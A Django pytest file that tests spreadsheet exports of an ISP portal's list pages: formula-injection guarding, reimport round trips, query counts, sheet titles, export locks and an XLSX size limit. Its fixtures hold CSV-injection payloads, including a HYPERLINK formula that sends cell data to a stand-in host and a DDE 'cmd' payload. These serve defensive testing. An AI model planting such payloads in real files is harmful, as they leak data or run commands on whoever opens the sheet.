"""Exports of the list pages (?exportar=csv|xlsx): formula cells, their round trip through
the importer, queries whatever the size, sheet titles, one export at a time, the XLSX limit."""

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from clientes.factories import ClienteCorpFactory
from clientes.models import ClienteCorp
from conexiones.factories import ConexionFactory, NodoFactory
from conexiones.models import Conexion
from isp_portal.models import ExportacionEnCurso
from isp_portal.tables import (
    celda_csv,
    export_response,
    sin_comilla_de_guardia,
    titulo_de_hoja,
)
from proveedores.factories import ServicioProveedorFactory

from .test_importar import importar

pytestmark = pytest.mark.django_db

# Session, user, its two permission queries, the page's object (impact lists), for XLSX the
# bounded count, the lock (an insert within a savepoint: three), the site's running exports
# and the lock's release, the rows.
MAX_CONSULTAS = 12

# A razón social that Excel would turn into a live link; and the other starts of a formula.
HIPERVINCULO = '=HYPERLINK("http://malo.example/?d="&A1,"Click")'
PELIGROSAS = {
    "razon_social": HIPERVINCULO,
    "responsable": "-2+3+cmd|' /C calc'!A0",
    "cod_erp": "@SUMA(1+1)",
    "telefono": "+51 999 888 777",
}


def descargar(client, url) -> bytes:
    respuesta = client.get(url)
    assert respuesta.status_code == 200, respuesta
    return respuesta.getvalue()


def filas_csv(contenido: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(contenido.decode("utf-8-sig"))))


def hoja_xlsx(contenido: bytes):
    return load_workbook(io.BytesIO(contenido)).active


def xml_de_hoja(contenido: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(contenido)) as libro:
        nombre = next(n for n in libro.namelist() if n.startswith("xl/worksheets/sheet"))
        return libro.read(nombre).decode()


# --- formula cells -----------------------------------------------------------------------


def test_csv_pone_una_comilla_ante_toda_celda_que_empieza_como_formula(lectura_client):
    ClienteCorpFactory(**PELIGROSAS)
    cabecera, fila = filas_csv(descargar(lectura_client, "/clientes_corporativo/?exportar=csv"))
    valores = dict(zip(cabecera, fila, strict=True))
    for campo, texto in PELIGROSAS.items():
        assert valores[campo] == "'" + texto
    assert valores["ruc"][0].isdigit()  # a text that starts like no formula is left alone


# Formulas behind a separator: Excel set to split on ";" (or tab, "|") opens the CSV with
# "=1+1" as a cell of its own unless the whole text is quoted.
TRAS_SEPARADOR = {
    "razon_social": "x;=1+1",
    "responsable": "y\t+2",
    "cod_erp": "z|@SUMA(1)",
    "telefono": 'a","=3',
}


@pytest.mark.parametrize("separador", [";", "\t", "|", ","])
def test_csv_sin_formulas_con_cualquier_separador(lectura_client, separador):
    ClienteCorpFactory(**TRAS_SEPARADOR)
    contenido = descargar(lectura_client, "/clientes_corporativo/?exportar=csv")
    texto = contenido.decode("utf-8-sig")
    for fila in csv.reader(io.StringIO(texto), delimiter=separador):
        for celda in fila:
            assert celda[:1] not in ("=", "+", "-", "@"), (separador, celda)
    # Read with its own separator, every text comes back as it was once the import takes
    # the guards off.
    cabecera, fila = filas_csv(contenido)
    valores = dict(zip(cabecera, fila, strict=True))
    for campo, valor in TRAS_SEPARADOR.items():
        assert sin_comilla_de_guardia(valores[campo]) == valor


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r;,|ax "), max_size=12) | st.text())
@hypothesis_settings(derandomize=True, max_examples=300)
def test_las_comillas_de_guardia_van_y_vuelven(texto):
    escrito = celda_csv(texto)
    assert sin_comilla_de_guardia(escrito) == texto
    for tramo in re.split(r"[;,\t|]", escrito)[1:] + [escrito]:
        assert tramo[:1] not in ("=", "+", "-", "@"), (texto, escrito)


@pytest.mark.parametrize(
    ("valor", "escrito"),
    [
        ("=1+1", "'=1+1"),
        ("+51", "'+51"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("'=ya con comilla", "''=ya con comilla"),  # the import takes one off: unchanged
        ("'hola", "'hola"),
        ("a=b", "a=b"),
        ("x;=1+1", "x;'=1+1"),
        ("x,-1;@a|+b\t=c", "x,'-1;'@a|'+b\t'=c"),
        ("x; =1", "x; =1"),
        ("=a;=b", "'=a;'=b"),
        ("\t=1", "'\t'=1"),
        ("x;'=1", "x;''=1"),
        ("x;'a", "x;'a"),
        ("", ""),
        (-5, -5),
        (100, 100),
    ],
)
def test_celda_csv(valor, escrito):
    assert celda_csv(valor) == escrito


def test_xlsx_escribe_las_formulas_como_texto_y_los_numeros_como_numeros(lectura_client):
    ClienteCorpFactory(**PELIGROSAS, cid="4242")
    ConexionFactory(cliente=ClienteCorp.objects.get(), bw_contratado=250)
    contenido = descargar(lectura_client, "/clientes_corporativo/?exportar=xlsx")
    assert "<f>" not in xml_de_hoja(contenido)
    hoja = hoja_xlsx(contenido)
    cabecera = [c.value for c in hoja[1]]
    celdas = dict(zip(cabecera, hoja[2], strict=False))
    for campo, texto in PELIGROSAS.items():
        assert (celdas[campo].value, celdas[campo].data_type) == (texto, "s")

    contenido = descargar(lectura_client, "/conexiones/?exportar=xlsx")
    hoja = hoja_xlsx(contenido)
    celdas = dict(zip([c.value for c in hoja[1]], hoja[2], strict=False))
    assert (celdas["bw_contratado"].value, celdas["bw_contratado"].data_type) == (250, "n")
    assert (celdas["bw_utilizado"].value, celdas["bw_utilizado"].data_type) == (0, "n")


def test_los_numeros_negativos_siguen_siendo_numeros(tmp_path):
    filas = [["texto", "numero"], ["-5", -5]]
    csv_ = export_response(filas, formato="csv", nombre="prueba").getvalue()
    assert filas_csv(csv_)[1] == ["'-5", "-5"]
    xlsx = export_response(filas, formato="xlsx", nombre="prueba").getvalue()
    texto, numero = hoja_xlsx(xlsx)[2]
    assert (texto.value, texto.data_type) == ("-5", "s")
    assert (numero.value, numero.data_type) == (-5, "n")


@pytest.mark.parametrize("formato", ["csv", "xlsx"])
def test_una_exportacion_con_formulas_reimporta_sin_cambios(lectura_client, tmp_path, formato):
    ClienteCorpFactory(**PELIGROSAS)
    ClienteCorpFactory(razon_social="'=Ya citada S.A.", responsable="-", cod_erp="'hola")
    ClienteCorpFactory(razon_social="Normal S.A.", responsable="@equipo", cod_erp="#N/A")
    antes = list(ClienteCorp.objects.order_by("pk").values())
    ruta = tmp_path / f"clientes.{formato}"
    ruta.write_bytes(descargar(lectura_client, f"/clientes_corporativo/?exportar={formato}"))

    salida, _ = importar("clientes", ruta)

    assert "creados: 0 · actualizados: 0 · sin cambios: 3 · con error: 0" in salida
    assert list(ClienteCorp.objects.order_by("pk").values()) == antes


def test_xlsx_omite_los_caracteres_de_control_que_xml_no_admite(lectura_client):
    ClienteCorpFactory(razon_social="Campana\x07 S.A.")
    hoja = hoja_xlsx(descargar(lectura_client, "/clientes_corporativo/?exportar=xlsx"))
    assert hoja.cell(row=2, column=3).value == "Campana S.A."


# --- queries whatever the size -------------------------------------------------------------


def crear_conexiones(total: int, *, nodo=None, servicio=None):
    """`total` connections with both nodes, a provider service and a client, in one insert."""
    cliente = ClienteCorpFactory()
    servicio = servicio or ServicioProveedorFactory()
    nodo_a, nodo_b = nodo or NodoFactory(), NodoFactory()
    inicio = Conexion.objects.count()
    Conexion.objects.bulk_create(
        ConexionFactory.build(
            cliente=cliente,
            servicio=servicio,
            nodo_a=nodo_a,
            nodo_b=nodo_b,
            cid_enlace=f"{cliente.cid}{inicio + i:05d}",
        )
        for i in range(total)
    )
    return nodo_a, servicio


def consultas_de_exportacion(client, url) -> tuple[int, int]:
    """(queries, data rows) of an export, read to its end."""
    with CaptureQueriesContext(connection) as consultas:
        contenido = descargar(client, url)
    xlsx = url.endswith("xlsx")
    filas = hoja_xlsx(contenido).max_row if xlsx else len(filas_csv(contenido))
    return len(consultas), filas - 1


@pytest.mark.parametrize("formato", ["csv", "xlsx"])
def test_exportar_conexiones_no_depende_del_tamano(lectura_client, formato):
    nodo, servicio = crear_conexiones(300)
    urls = [
        f"/conexiones/?exportar={formato}",
        f"/nodos/{nodo.pk}/impacto?exportar={formato}",
        f"/proveedores/servicios/{servicio.pk}/impacto?exportar={formato}",
    ]
    antes = [consultas_de_exportacion(lectura_client, url) for url in urls]
    crear_conexiones(2700, nodo=nodo, servicio=servicio)
    despues = [consultas_de_exportacion(lectura_client, url) for url in urls]

    assert [filas for _, filas in antes] == [300] * 3
    assert [filas for _, filas in despues] == [3000] * 3
    assert [consultas for consultas, _ in despues] == [consultas for consultas, _ in antes]
    assert max(consultas for consultas, _ in despues) <= MAX_CONSULTAS


def test_exportar_cada_lista_en_pocas_consultas(lectura_client):
    crear_conexiones(30)
    for url in ["/clientes_corporativo/", "/proveedores/", "/proveedores/servicios/", "/nodos/"]:
        for formato in ("csv", "xlsx"):
            consultas, filas = consultas_de_exportacion(lectura_client, f"{url}?exportar={formato}")
            assert filas >= 1, url
            assert consultas <= MAX_CONSULTAS, (url, formato)


# --- sheet titles --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("nombre", "titulo"),
    [
        ("Impacto del nodo N/1", "Impacto del nodo N-1"),
        ("a\\b:c[d]e?f*g", "a-b-c-d-e-f-g"),
        ("Impacto del servicio " + "X" * 40, "Impacto del servicio XXXXXXXXXX"),
        ("'citado'", "citado"),
        ("", "datos"),
        ("///", "---"),
    ],
)
def test_titulo_de_hoja(nombre, titulo):
    assert titulo_de_hoja(nombre) == titulo
    assert len(titulo_de_hoja(nombre)) <= 31


def test_xlsx_del_impacto_de_un_nodo_con_barra(lectura_client):
    nodo = NodoFactory(nombre="N/1")
    ConexionFactory(nodo_a=nodo)
    servicio = ServicioProveedorFactory(codigo="LIM/2024:[01]")
    ConexionFactory(servicio=servicio)

    hoja = hoja_xlsx(descargar(lectura_client, f"/nodos/{nodo.pk}/impacto?exportar=xlsx"))
    assert hoja.title == "Impacto del nodo N-1"
    assert hoja.max_row == 2
    url = f"/proveedores/servicios/{servicio.pk}/impacto?exportar=xlsx"
    assert hoja_xlsx(descargar(lectura_client, url)).title == "Impacto del servicio LIM-2024--"


# --- one export at a time per user ---------------------------------------------------------


def test_una_segunda_exportacion_del_mismo_usuario_es_429(lectura_client, usuario_lectura):
    ClienteCorpFactory()
    en_curso = lectura_client.get("/clientes_corporativo/?exportar=csv")
    assert en_curso.status_code == 200
    assert ExportacionEnCurso.objects.filter(usuario=usuario_lectura).exists()

    for formato in ("csv", "xlsx"):
        segunda = lectura_client.get(f"/clientes_corporativo/?exportar={formato}")
        assert segunda.status_code == 429
        assert "Ya tiene una exportación en curso" in segunda.content.decode()
        assert segunda["Retry-After"]

    # The first one streams to its end: the lock goes with it.
    assert len(filas_csv(en_curso.getvalue())) == 2
    assert not ExportacionEnCurso.objects.exists()
    assert lectura_client.get("/clientes_corporativo/?exportar=csv").status_code == 200


def test_otro_usuario_puede_exportar_a_la_vez(lectura_client, usuario_operador, client):
    ClienteCorpFactory()
    en_curso = lectura_client.get("/clientes_corporativo/?exportar=csv")
    from django.test import Client

    otro = Client()
    otro.force_login(usuario_operador)
    assert otro.get("/clientes_corporativo/?exportar=csv").getvalue()
    assert en_curso.getvalue()


# Closing a response ends the request (request_finished closes the connection, as a server
# does): outside a test transaction, so the test can go on.
@pytest.mark.django_db(transaction=True)
def test_una_descarga_cortada_libera_el_bloqueo(lectura_client):
    ClienteCorpFactory.create_batch(3)
    respuesta = lectura_client.get("/clientes_corporativo/?exportar=csv")
    assert ExportacionEnCurso.objects.exists()
    next(iter(respuesta.streaming_content))  # the client reads a little, then goes away

    respuesta.close()  # what the server does when the client went away

    assert not ExportacionEnCurso.objects.exists()
    assert lectura_client.get("/clientes_corporativo/?exportar=xlsx").status_code == 200
    assert not ExportacionEnCurso.objects.exists()  # XLSX releases it once written


def test_un_bloqueo_vencido_no_impide_exportar(lectura_client, usuario_lectura, settings):
    settings.EXPORT_SIN_LECTURA_SEGUNDOS = 60
    ClienteCorpFactory()
    ExportacionEnCurso.objects.create(
        usuario=usuario_lectura, iniciada=timezone.now() - timedelta(seconds=61)
    )
    respuesta = lectura_client.get("/clientes_corporativo/?exportar=csv")
    assert respuesta.status_code == 200
    assert len(filas_csv(respuesta.getvalue())) == 2
    assert not ExportacionEnCurso.objects.exists()

    reciente = ExportacionEnCurso.objects.create(
        usuario=usuario_lectura, iniciada=timezone.now() - timedelta(seconds=59)
    )
    assert lectura_client.get("/clientes_corporativo/?exportar=csv").status_code == 429
    assert ExportacionEnCurso.objects.get() == reciente


def test_una_descarga_detenida_suelta_su_lugar_en_un_minuto(
    lectura_client, operador_client, settings
):
    """Four stalled CSV downloads held every export slot for 15 minutes: a download whose
    client stops reading takes no more rows, so its lock stops being marked alive."""
    assert settings.EXPORT_SIN_LECTURA_SEGUNDOS == 60  # the README's default
    settings.EXPORT_SIMULTANEAS_MAX = 1
    ClienteCorpFactory.create_batch(5)
    inicio = timezone.now()
    with time_machine.travel(inicio, tick=False) as reloj:
        detenida = lectura_client.get("/clientes_corporativo/?exportar=csv")
        next(iter(detenida.streaming_content))  # reads a little, then stops (not closed)
        reloj.shift(timedelta(seconds=30))
        assert operador_client.get("/clientes_corporativo/?exportar=csv").status_code == 429
        reloj.shift(timedelta(seconds=31))
        otra = operador_client.get("/clientes_corporativo/?exportar=csv")
        assert otra.status_code == 200
        assert len(filas_csv(otra.getvalue())) == 6
    detenida.close()


def test_una_descarga_que_se_lee_conserva_su_lugar(
    lectura_client, operador_client, settings, monkeypatch
):
    from isp_portal import services

    settings.EXPORT_SIMULTANEAS_MAX = 1
    # Short, so the clock moves less than the database connection's age (CONN_MAX_AGE).
    settings.EXPORT_SIN_LECTURA_SEGUNDOS = 20
    ClienteCorpFactory.create_batch(5)
    reloj_monotono = iter(range(0, 10_000, 100))  # every row is a quarter-minute later
    monkeypatch.setattr(services, "segundos", lambda: next(reloj_monotono))
    inicio = timezone.now()
    with time_machine.travel(inicio, tick=False) as reloj:
        leida = lectura_client.get("/clientes_corporativo/?exportar=csv")
        partes = iter(leida.streaming_content)
        next(partes), next(partes)
        for _ in range(3):  # slowly, but it reads: each row marks it alive
            reloj.shift(timedelta(seconds=15))
            next(partes)
            assert operador_client.get("/clientes_corporativo/?exportar=csv").status_code == 429
        list(partes)  # read to the end: the test client closes it, as the server does
    assert operador_client.get("/clientes_corporativo/?exportar=csv").status_code == 200


# --- XLSX only up to EXPORT_XLSX_MAX_FILAS -----------------------------------------------


def test_la_lista_avisa_que_no_ofrece_xlsx_por_encima_del_limite(lectura_client, settings):
    settings.EXPORT_XLSX_MAX_FILAS = 2
    ClienteCorpFactory.create_batch(2)
    pagina = lectura_client.get("/clientes_corporativo/").content.decode()
    assert "exportar=xlsx" in pagina
    assert 'id="xlsx-excede"' not in pagina

    ClienteCorpFactory()
    pagina = lectura_client.get("/clientes_corporativo/").content.decode()
    assert "exportar=xlsx" not in pagina
    assert "exportar=csv" in pagina
    assert 'id="xlsx-excede"' in pagina
    assert "El XLSX se ofrece hasta 2 filas" in pagina
    # Filtered down to the limit, it is offered again.
    ruc = ClienteCorp.objects.first().ruc
    pagina = lectura_client.get("/clientes_corporativo/", {"busqueda": ruc})
    assert "exportar=xlsx" in pagina.content.decode()


def test_exportar_xlsx_por_encima_del_limite_ofrece_el_csv(lectura_client, settings):
    settings.EXPORT_XLSX_MAX_FILAS = 2
    ClienteCorpFactory.create_batch(3)
    respuesta = lectura_client.get("/clientes_corporativo/?exportar=xlsx&orden=ruc")
    assert respuesta.status_code == 400
    texto = respuesta.content.decode()
    assert "El XLSX se ofrece hasta 2 filas y esta lista tiene más" in texto
    assert 'href="/clientes_corporativo/?orden=ruc&amp;exportar=csv"' in texto
    assert not ExportacionEnCurso.objects.exists()
    assert len(filas_csv(descargar(lectura_client, "/clientes_corporativo/?exportar=csv"))) == 4


def test_el_portal_limita_las_exportaciones_simultaneas(
    lectura_client, usuario_operador, django_user_model, settings
):
    settings.EXPORT_SIMULTANEAS_MAX = 1
    ClienteCorpFactory()
    otro = django_user_model.objects.create_user("otro")
    ExportacionEnCurso.objects.create(usuario=otro, iniciada=timezone.now())

    respuesta = lectura_client.get("/clientes_corporativo/?exportar=csv")

    assert respuesta.status_code == 429
    assert respuesta["Retry-After"] == "60"
    assert "Hay 1 exportaciones en curso en el portal" in respuesta.content.decode()
    assert list(ExportacionEnCurso.objects.values_list("usuario", flat=True)) == [otro.pk]
    # A lock not marked alive for EXPORT_SIN_LECTURA_SEGUNDOS is not counted: it is over.
    ExportacionEnCurso.objects.update(iniciada=timezone.now() - timedelta(hours=1))
    assert lectura_client.get("/clientes_corporativo/?exportar=csv").status_code == 200
